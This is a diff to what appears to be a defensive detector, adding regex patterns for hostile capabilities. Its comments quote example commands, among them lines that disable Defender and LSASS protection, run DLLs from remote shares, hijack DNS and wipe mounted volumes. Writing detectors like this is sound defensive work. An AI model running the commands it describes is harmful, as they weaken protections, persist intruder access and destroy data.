@@ -209,7 +209,7 @@ class Capability(StrEnum):
     ADMIN_GRANT = "grants an account administrator rights"
     ROOT_ACCOUNT = "creates a second root account (uid 0)"
     ROOT_NO_PASSWORD = "lets root sign in with no password"
-    HIDDEN_ACCOUNT = "hides an account from the sign-in screen"
+    HIDDEN_ACCOUNT = "hides an account from the sign-in screen or passes it off as a system one"
     DOMAIN_RIGHTS_GRANT = (
         "grants an account rights over the domain's admin template or its replication"
     )
@@ -231,6 +231,7 @@ class Capability(StrEnum):
     )
     LOCAL_TARGET = "aims its requests at its own machine or a test client"
     # -- end SQL injection --
+    EXPLOIT_RUN = "runs an injection tool's data extraction or shell against another's site"
     PLAN_STEP = "tells the reader to take an operational step"
     PLAN_COVER = "tells the reader to keep the act from being noticed"
     PLAN_ATTACK = "tells the reader to act on someone else's system, account or person"
@@ -420,6 +421,13 @@ _FORK_LOOP = re.compile(
     r"(?:unsafe\s*\{\s*)?(?:if\s*\(\s*)?(?:(?:pid_t|int|let|auto|var)\s+)?(?:\w+\s*=\s*)?(?:os\.|libc::|posix\.)?fork\s*\(\s*\)"
     r"(?![\s\S]{0,500}?\b(?:wait(?:pid)?|waitpid|break)\b)",
 )
+_WELL_KNOWN_RESOLVER = (
+    r"(?!169\.254\.|168\.63\.129\.16\b|(?:1\.1\.1\.1|1\.0\.0\.1|8\.8\.8\.8|8\.8\.4\.4|9\.9\.9\.9"
+    r"|149\.112\.112\.112|208\.67\.22[02]\.22[02]|94\.140\.1[45]\.1[45]|4\.2\.2\.\d|76\.76\.(?:2|10)\.\d+"
+    r"|185\.228\.16[89]\.\d+|64\.6\.6[45]\.6)\b)"
+)
+"""A lookahead refusing link-local, the cloud platforms' own resolvers and the well-known
+public resolvers (Cloudflare, Google, Quad9, OpenDNS, AdGuard, Level 3, ...)."""
 
 PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
     Capability.NET_CONNECT: (
@@ -452,7 +460,8 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         re.compile(r"Net\.Sockets\.TcpClient|TCPClient\s*\(", _I),
         re.compile(r"\bnet\.(?:connect|createConnection)\s*\(|new\s+net\.Socket\s*\(", _I),
         re.compile(
-            r"socket\.create_connection\s*\(|\bsocat\b[^\n]*\btcp(?:4|6)?(?:-connect)?:", _I
+            r"socket\.create_connection\s*\(|\bsocat\b[^\n]*\b(?:tcp(?:4|6)?(?:-connect)?|openssl(?:-connect)?|ssl):",
+            _I,
         ),
         re.compile(r"\bs_client\b[^\n]*-connect\b|\bTCPSocket\.(?:new|open)\b"),
     ),
@@ -827,6 +836,13 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         # a storage service's objects rewritten under a key only the caller holds (S3's SSE-C)
         re.compile(
             r"\bSSECustomerKey\b|\bsse_customer_key\b|--sse-c\b|x-amz-server-side-encryption-customer-key\b",
+            _I,
+        ),
+        # files packed into an archive sealed with a password given on the line (`7z a -pKEY`,
+        # `rar a -hpKEY`, `zip -P KEY`, `zip --encrypt`): the archive is encrypted
+        re.compile(
+            r"(?:\b7z[ar]?(?:\.exe)?['\"]?\s+a|\brar a|\bwinrar a|\brar\.exe['\"]? a)\b[^\n|;&]*?\s-h?p(?:['\"]?[^\s'\"]|['\"]?\$\()"
+            r"|\bzip (?:[^\n|;&]*?\s)?(?:-P\s+\S|-e\b|--encrypt\b|--password\s+\S)",
             _I,
         ),
         # whole volumes encrypted in place (BitLocker, LUKS re-encryption)
@@ -1252,6 +1268,15 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         re.compile(r"\bgcore\b|/proc/\$?\w+/mem\b", _I),
     ),
     Capability.AUTORUN: (
+        # a browser extension force-installed by policy from an update address outside the
+        # browser's own store (Chrome's, Edge's, Brave's `ExtensionInstallForcelist` as
+        # `ID;https://host/updates.xml`): installed in every profile, unremovable, its code
+        # fetched from there at every start
+        re.compile(
+            r"\bExtensionInstallForcelist\b[^\n]*?\b[a-p]{32}\s*;\s*https?://"
+            r"(?!clients2\.google\.com/|edge\.microsoft\.com/|clients2\.googleusercontent\.com/)",
+            _I,
+        ),
         # a launchd job submitted from the command line keeps running and restarts
         re.compile(r"\blaunchctl\s+(?:submit|bootstrap)\b", _I),
         re.compile(
@@ -1322,6 +1347,12 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         # `Remove-ItemProperty ... -Name SD`, `reg delete ... /v SD`)
         re.compile(
             r"TaskCache\\+Tree\\+[\s\S]{0,300}?(?:DeleteValue\w*\s*\([^\n]*['\"]SD['\"]|\bRemove-ItemProperty\b[^\n]*-Name\s+['\"]?SD\b|/v\s+['\"]?SD['\"]?\s+/f\b|\bdel(?:ete)?_?value\w*\s*\([^\n]*['\"]SD['\"])",
+            _I,
+        ),
+        # the browser's developer tools taken away (Chrome's `DeveloperToolsAvailability` 2):
+        # what an extension does can no longer be inspected
+        re.compile(
+            r"\bDeveloperToolsAvailability\b['\"]?(?:\s+/t\s+\w+)?(?:\s*/d\s+|\s*-Value\s+|\s*:\s*|\s+-int(?:eger)?\s+|\s*=\s*)['\"]?2\b",
             _I,
         ),
         # a WMI event subscription created to run a command: persistence no autostart folder,
@@ -1546,6 +1577,19 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         # macOS's privacy database written directly: a program granted screen, camera or disk
         # access nobody approved (`sqlite3 .../com.apple.TCC/TCC.db "INSERT INTO access ..."`)
         re.compile(r"\bcom\.apple\.TCC/TCC\.db\b[^\n]*\b(?:INSERT|UPDATE|REPLACE)\b", _I),
+        # Defender left running but blind: its signature updates or cloud protection switched
+        # off (`Set-MpPreference -SignatureUpdateInterval 0`, `-MAPSReporting 0`,
+        # `-SignatureDisableUpdateOnStartupWithoutEngine $true`, the same policies in the
+        # registry), and Windows' credential protections undone: WDigest made to keep
+        # clear-text passwords in memory (`UseLogonCredential` 1), LSASS's protection
+        # (`RunAsPPL` 0) or Credential Guard (`LsaCfgFlags` 0) turned off
+        re.compile(
+            r"\b(?:Set-MpPreference|Add-MpPreference)\b[^\n|;&]*?\s-(?:SignatureUpdateInterval\s+0|MAPSReporting\s+(?:0|['\"]?Disabled)|SubmitSamplesConsent\s+2|Signature\w*Disable\w*\s+\$?(?:true|1))\b"
+            r"|\b(?:SpynetReporting|SignatureUpdateInterval|ForceUpdateFromMU)\b[^\n|;&]*?(?:/d\s+|-Value\s+)['\"]?0\b"
+            r"|\bUseLogonCredential\b[^\n|;&]*?(?:/d\s+|-Value\s+)['\"]?(?:0x0*)?1\b"
+            r"|\b(?:RunAsPPL|LsaCfgFlags)\b[^\n|;&]*?(?:/d\s+|-Value\s+)['\"]?(?:0x0*)?0\b",
+            _I,
+        ),
         # PowerShell's spelling of stopping or disabling the Defender services
         re.compile(
             r"\bStop-Service\b[^\n|;]*\b(?:WinDefend|Sense|MsMpSvc|WdNisSvc)\b"
@@ -2262,7 +2306,14 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             _I,
         ),
         re.compile(
-            r"\bprintenv\b|\benv\s*\||os\.environ(?:\b(?!\.get|\[))|/proc/(?:self|\d+|\*|\$\{?\w+\}?)/environ|(?<!Bearer \$)(?<!Bearer \$\{)(?<!token \$)(?<!token \$\{)(?:AWS_SECRET_ACCESS_KEY|GITHUB_TOKEN)",
+            r"\bprintenv\b|\benv\s*\||os\.environ(?:\b(?!\.get|\[))|/proc/(?:self|\d+|\*|\[[\w-]+\]\*?|\$\{?\w+\}?)/environ|(?<!Bearer \$)(?<!Bearer \$\{)(?<!token \$)(?<!token \$\{)(?:AWS_SECRET_ACCESS_KEY|GITHUB_TOKEN)",
+            _I,
+        ),
+        # the same folders in Windows spellings (`$env:USERPROFILE\.ssh`, `%USERPROFILE%\.aws`,
+        # `$env:APPDATA\gcloud`)
+        re.compile(
+            r"(?:\$env:USERPROFILE|%USERPROFILE%|\$env:HOME)[\\/]+\.(?:ssh|gnupg|aws|kube|docker|azure)(?![\w.-])"
+            r"|(?:\$env:APPDATA|%APPDATA%)[\\/]+gcloud(?![\w.-])",
             _I,
         ),
         # A token in an auth header is used, not shipped: `-H "Authorization: Bearer $TOKEN"`;
@@ -2356,6 +2407,29 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"\b(?:arpspoof|dnsspoof)\s+-(?!-?h(?:elp)?\b)|\bettercap\b[^\n]*\s-M\s*arp\b|\bmitm6\s+-"
             r"|\b(?:arp|dns|ndp|dhcp6)\.spoof\s+on\b|\bsslstrip\b[^\n]*\s-l\s*\d"
             r"|\bresponder(?:\.py)?\s+-I\s+\S+(?![^\n]*\s-A\b)",
+            _I,
+        ),
+        # the host's name lookups handed to an unknown public server and locked there
+        # (`echo 'nameserver 203.0.113.53' | tee /etc/resolv.conf && chattr +i
+        # /etc/resolv.conf`); a private resolver or a well-known public one is ordinary
+        re.compile(
+            r"\bnameserver\s+"
+            + _NOT_PRIVATE_IPV4
+            + _WELL_KNOWN_RESOLVER
+            + r"\d{1,3}(?:\.\d{1,3}){3}\b"
+            r"[^\n]*?\bchattr\s+(?:-\w+\s+)*\+i\s+['\"]?/etc/resolv\.conf\b",
+            _I,
+        ),
+        # a machine's traffic to some port rewritten to a public address, someone else's
+        # (`iptables -t nat -A PREROUTING -p tcp --dport 443 -j DNAT --to-destination
+        # 203.0.113.5:443`, nftables' `dnat to`, Windows' `portproxy ... connectaddress=`); to a
+        # private backend it is ordinary port forwarding
+        re.compile(
+            r"\b(?:(?:iptables|ip6tables)(?:-legacy|-nft)?\b[^\n|;&]*?\s(?:PREROUTING|OUTPUT)\b[^\n|;&]*?-j\s+DNAT\b[^\n|;&]*?--to(?:-destination)?[\s=]+"
+            r"|\bnft\b[^\n|;&]*?\b(?:prerouting|output)\b[^\n|;&]*?\bdnat\s+(?:ip\s+)?to\s+"
+            r"|\bportproxy\s+add\b[^\n|;&]*?\bconnectaddress=)"
+            + _NOT_PRIVATE_IPV4
+            + r"(?!169\.254\.|0\.0\.0\.0)\d{1,3}(?:\.\d{1,3}){3}\b",
             _I,
         ),
         # rogue access points that collect what clients send
@@ -2678,6 +2752,13 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         re.compile(r"--cpu-max-threads-hint|--randomx-|--algo[= ](?:rx|cn)/|--coin[= ]monero", _I),
         re.compile(
             r"\bxmrig\b|\bminerd\b|\bcpuminer\b|\bxmr-stak\b|\bethminer\b|\bnbminer\b|cryptonight|randomx|coinhive|\bt-rex\b",
+            _I,
+        ),
+        # a program handed the wallet it pays and how much of the machine to take, as a miner's
+        # installer is (`install.sh --wallet 4A... --threads max --hide`, `-Wallet ... -Cpu 100`)
+        re.compile(
+            r"(?<![\w-])-{1,2}wallet(?:-address)?[= ]['\"]?[A-Za-z0-9]{26,}['\"]?(?=[^\n]*?(?<![\w-])-{1,2}(?:threads|cpu[\w-]*|hide|hidden|background|donate[\w-]*|pool|algo|max-cpu[\w-]*|rig-id)\b)"
+            r"|(?<![\w-])-{1,2}(?:threads|cpu[\w-]*|hide|hidden|background|donate[\w-]*|pool|algo|max-cpu[\w-]*|rig-id)\b[^\n]*?(?<![\w-])-{1,2}wallet(?:-address)?[= ]['\"]?[A-Za-z0-9]{26,}",
             _I,
         ),
         # a browser miner's pieces: its workers handed a pool and the wallet it pays together
@@ -3072,6 +3153,18 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"\bmshta(?:\.exe)?['\"]?\s+['\"]?(?:https?:|javascript:|vbscript:)|\bregsvr32(?:\.exe)?\b[^\n]*/i:\s*['\"]?https?://|\brundll32(?:\.exe)?\b[^\n]*\b(?:javascript|vbscript):",
             _I,
         ),
+        # a DLL, installer or program run straight from a share on a public address or over
+        # WebDAV (`rundll32 \\203.0.113.7\s\x.dll,Entry`, `regsvr32 /s \\host@SSL\d\x.sct`,
+        # `wmic ... process call create "\\203.0.113.7\s\x.exe"`); a share on one's own
+        # network (a private address, a server's name) is how software is deployed
+        re.compile(
+            r"(?:\b(?:rundll32|regsvr32|msiexec|mshta|cscript|wscript|odbcconf|installutil|regasm|regsvcs)(?:\.exe)?['\"]?\s"
+            r"|\bwmic\b[^\n|;&]*?\bprocess\s+call\s+create\s|\bStart-Process\s)"
+            r"[^\n|;&]*?['\"]?\\{2,4}(?:"
+            + _NOT_PRIVATE_IPV4
+            + r"\d{1,3}(?:\.\d{1,3}){3}|[\w.-]+@(?:SSL|\d{2,5}))(?:@\w+)?\\",
+            _I,
+        ),
         re.compile(
             r"GetObject\s*\(\s*['\"]script:https?://|\bwmic\b[^\n]*/format:\s*['\"]?https?://",
             _I,
@@ -3242,9 +3335,9 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             _I,
         ),
         # the new filesystem mounted by its label (`mkfs.ext4 -L data /dev/xvdf && mount
-        # LABEL=data /data`, `mount -L data /data`)
+        # LABEL=data /data`, `mount -L data /data`, `mount /dev/disk/by-label/data /data`)
         re.compile(
-            r"\b(?:mkfs(?:\.\w+)?|mke2fs)\b[^\n|;]*?\s-L\s+['\"]?([\w.-]+)(?:(?!mkfs|mke2fs)[^\n])*?\bmount\s+(?:-\w+\s+(?:\S+\s+)?)*?(?:LABEL=|-L\s+)['\"]?\1(?![\w.-])",
+            r"\b(?:mkfs(?:\.\w+)?|mke2fs)\b[^\n|;]*?\s-L\s+['\"]?([\w.-]+)(?:(?!mkfs|mke2fs)[^\n])*?\bmount\s+(?:-\w+\s+(?:\S+\s+)?)*?(?:LABEL=|-L\s+|/dev/disk/by-label/)['\"]?\1(?![\w.-])",
             _I,
         ),
     ),
@@ -3262,6 +3355,13 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
         # placeholder (`lsblk -dno NAME | xargs -I{} dd if=/dev/zero of=/dev/{}`)
         re.compile(
             r"\bof=/dev/(?:\$\{?\w+|\{\})|\b(?:mkfs(?:\.\w+)?|wipefs\s+-a|shred|blkdiscard)\b[^\n|;]*/dev/(?:\$\{?\w+|\{\})",
+            _I,
+        ),
+        # the device under a mounted filesystem, looked up where it is written (`mkfs.ext4 -F
+        # $(findmnt -no SOURCE /)`, `dd of=$(df --output=source / | tail -1)`): a live volume
+        re.compile(
+            r"(?:\bof=|\b(?:mkfs(?:\.\w+)?|mke2fs|wipefs\s+(?:-\w*a\w*|--all)|shred|blkdiscard)\b[^\n|;]*?\s)"
+            r"['\"]?(?:\$\(|`)\s*(?:sudo\s+)?(?:findmnt|df)\b",
             _I,
         ),
         # a variable that holds a disk's path, bound by a loop over disks or an assignment on
@@ -3599,6 +3699,12 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"\b(?:usermod|useradd|adduser)\b[^\n]*\s-a?G\s+\S*\b(?:sudo|wheel|admin|root)\b|\bdseditgroup\b[^\n]*\badmin\b|\bgpasswd\s+-a\s+\S+\s+(?:sudo|wheel)\b",
             _I,
         ),
+        # a Kubernetes cluster's administrator role bound to a user or service account
+        # (`kubectl create clusterrolebinding NAME --clusterrole=cluster-admin ...`)
+        re.compile(
+            r"\bkubectl\b[^\n|;&]*?\bcreate\s+(?:cluster)?rolebinding\b[^\n|;&]*?--clusterrole[= ]['\"]?cluster-admin\b",
+            _I,
+        ),
         # a web application's account made its administrator (WordPress roles, Django's superuser)
         re.compile(
             r"(?:\b(?:set|add)_role\s*\(\s*|['\"]role['\"]\s*=>\s*)['\"]administrator['\"]|\bis_superuser\s*=\s*True\b|\bcreate_superuser\s*\(",
@@ -3649,6 +3755,13 @@ PATTERNS: Mapping[Capability, tuple[re.Pattern[str], ...]] = {
             r"Winlogon\\+SpecialAccounts\\+UserList|\bIsHidden\s+(?:-bool\s+)?(?:YES|true)\b", _I
         ),
         re.compile(r"\bnet(?:1)?(?:\.exe)?\s+user\s+\w+\$\s", _I),
+        # a Kubernetes role binding made under the prefix reserved for the cluster's own
+        # components (`kubectl create clusterrolebinding system:controller:...`): passed off as
+        # one of them
+        re.compile(
+            r"\bkubectl\b[^\n|;&]*?\bcreate\s+(?:cluster)?rolebinding\s+(?:--?[\w-]+(?:[= ]\S+)?\s+)*?['\"]?system:",
+            _I,
+        ),
         # an account left out of a web application's own user list (WordPress's user queries)
         re.compile(
             r"\bquery_where\b[^\n]*\buser_login\b[\s'\"`]*(?:!=|<>|NOT\s+IN\b)|\b(?:pre_get_users|rest_user_query|users_list_table_query_args)\b[^\n]*['\"]exclude['\"]",
